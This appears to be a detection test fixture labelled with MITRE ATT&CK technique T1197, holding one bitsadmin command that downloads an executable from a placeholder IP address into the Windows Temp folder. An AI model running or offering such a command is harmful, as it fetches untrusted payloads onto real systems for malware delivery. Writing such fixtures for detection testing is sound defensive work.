# expect: T1197
bitsadmin /transfer myjob /download /priority high http://203.0.113.14/a.exe C:\Windows\Temp\a.exe
